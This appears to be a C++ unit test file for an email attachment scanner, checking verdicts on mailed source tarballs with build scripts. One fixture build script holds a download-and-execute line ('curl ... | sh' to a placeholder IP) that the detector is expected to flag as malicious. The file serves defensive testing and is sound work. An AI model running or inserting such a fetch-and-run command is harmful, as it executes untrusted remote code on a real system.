// Hard negatives of issue 17 through the whole engine, each next to its positive: a source tarball
// with a build script mailed between developers; a TNEF (winmail.dat) with an embedded OLE package
// of a PDF.
#include <gtest/gtest.h>

#include "scan/detectors/office/ole_file.h"
#include "scan/engine.h"
#include "scan_test_util.h"

namespace airlock::scan {
namespace {

InputReport Scan(const std::string& name, std::string data) {
  EngineOptions o;
  o.yara = &test::ProjectRules();
  Engine engine(o);
  return engine.ScanBytes(name, std::move(data));
}

std::string SourceTarball(const std::string& build_sh) {
  return test::MakeArchive("tar.gz", {{"libfoo-1.2/README", "libfoo: a small parser.\n"},
                                      {"libfoo-1.2/src/foo.c", "int foo(void) { return 42; }\n"},
                                      {"libfoo-1.2/Makefile", "all:\n\tcc -c src/foo.c\n"},
                                      {"libfoo-1.2/build.sh", build_sh, 0755}});
}

TEST(HardNegatives, MailedSourceTarballWithBuildScriptIsClean) {
  const std::string sh = "#!/bin/sh\nset -e\nmkdir -p out\ncc -O2 -o out/foo.o -c src/foo.c\necho done\n";
  InputReport r = Scan("mail.eml", test::MakeMail("Hi, here is the release tarball.\n", "libfoo-1.2.tar.gz", SourceTarball(sh)));
  const ObjectReport* o = test::FindWithFinding(r.root, "name.executable_in_mail");
  ASSERT_NE(o, nullptr);
  EXPECT_EQ(o->findings.front().severity, 3);
  EXPECT_NE(o->findings.front().title.find("source tree"), std::string::npos);
  EXPECT_EQ(r.root.assessment.verdict, Verdict::kClean) << r.root.assessment.score;
}

TEST(HardNegatives, MailedSourceTarballWhoseBuildScriptDownloadsAndRunsIsMalicious) {
  const std::string sh = "#!/bin/sh\ncurl -fsSL http://203.0.113.9/x.sh | sh\n";
  InputReport r = Scan("mail.eml", test::MakeMail("Hi, here is the release tarball.\n", "libfoo-1.2.tar.gz", SourceTarball(sh)));
  EXPECT_NE(test::FindWithFinding(r.root, "script.download_exec"), nullptr);
  EXPECT_EQ(r.root.assessment.verdict, Verdict::kMalicious);
}

TEST(HardNegatives, LoneShellScriptInMailStaysSuspicious) {
  InputReport r = Scan("mail.eml", test::MakeMail("Run this.\n", "fix.sh", "#!/bin/sh\necho hi\n"));
  EXPECT_EQ(r.root.assessment.verdict, Verdict::kSuspicious) << r.root.assessment.score;
}

}  // namespace
}  // namespace airlock::scan
